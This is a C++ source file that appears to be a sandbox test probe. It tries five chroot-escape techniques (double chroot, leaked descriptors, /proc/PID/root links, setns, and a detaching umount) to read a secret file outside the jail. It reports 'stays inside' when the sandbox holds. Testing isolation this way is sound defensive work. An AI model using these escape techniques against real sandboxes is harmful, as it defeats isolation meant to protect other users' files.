// Tries to get out of a root directory, and shows what is in /tmp/secret outside.
//
//     escape double        one more chroot: then we stand above our root directory
//     escape descriptor    an open descriptor of a directory outside
//     escape process       /proc/PID/root and /proc/PID/cwd of somebody who is outside
//     escape namespace     joins our own mount namespace, and so goes to its root
//     escape umount        takes away what lies on top of the old root, then the same
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cctype>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <string>

#include "sys/descriptor.hpp"
#include "sys/error.hpp"
#include "sys/program.hpp"

namespace {

constexpr int highest_descriptor = 64;
constexpr int deepest_directory = 64;

void show(const sys::Descriptor& file) {
  char text[64];
  const sys::Size size = sys::read_all(file, text, sizeof text);
  sys::write_all(sys::Descriptor{sys::check(dup(STDOUT_FILENO), "dup")}, text, size);
}

/// Shows the secret, if there is one below the working directory, and ends.
void look() {
  for (const char* path : {"secret", "tmp/secret"}) {
    if (access(path, R_OK) == -1) continue;
    show(sys::open(path, O_RDONLY));
    std::exit(EXIT_SUCCESS);
  }
}

/// Looks in all directories above. Nothing stops somebody there who does not meet his root.
void climb() {
  for (int i = 0; i < deepest_directory; ++i) {
    look();
    sys::check(chdir(".."), "chdir", "..");
  }
}

void try_double() {
  if (mkdir("/tmp/below", 0700) == -1 && errno != EEXIST) sys::throw_errno("mkdir", "/tmp/below");
  sys::check(chroot("/tmp/below"), "chroot", "/tmp/below");
  climb();
}

void try_descriptor() {
  for (int number = 0; number < highest_descriptor; ++number) {
    if (fchdir(number) == 0) climb();
  }
}

void try_process() {
  const std::unique_ptr<DIR, int (*)(DIR*)> proc{opendir("/proc"), closedir};
  if (!proc) sys::throw_errno("opendir", "/proc");
  while (const dirent* entry = readdir(proc.get())) {
    if (std::isdigit(static_cast<unsigned char>(entry->d_name[0])) == 0) continue;
    for (const char* link : {"/root", "/cwd"}) {
      if (chdir(("/proc/" + std::string{entry->d_name} + link).c_str()) == 0) climb();
    }
  }
}

void join(const sys::Descriptor& mounts) {
  sys::check(setns(mounts.get(), CLONE_NEWNS), "setns", "/proc/self/ns/mnt");
  climb();
}

void try_namespace() { join(sys::open("/proc/self/ns/mnt", O_RDONLY)); }

/// The kernel refuses it where there is nothing below.
void try_umount() {
  const sys::Descriptor mounts = sys::open("/proc/self/ns/mnt", O_RDONLY);
  if (umount2("/", MNT_DETACH) == 0) join(mounts);
}

struct Way {
  const char* name;
  void (*go)();
};

constexpr Way ways[] = {{"double", try_double},
                        {"descriptor", try_descriptor},
                        {"process", try_process},
                        {"namespace", try_namespace},
                        {"umount", try_umount}};

int run(int argc, char** argv) {
  for (const Way& way : ways) {
    if (argc != 2 || std::strcmp(argv[1], way.name) != 0) continue;
    way.go();
    std::puts("stays inside");
    return EXIT_SUCCESS;
  }
  return sys::report_usage("which way?", "escape double|descriptor|process|namespace|umount");
}

}  // namespace

int main(int argc, char** argv) { return sys::run_program("escape", run, argc, argv); }
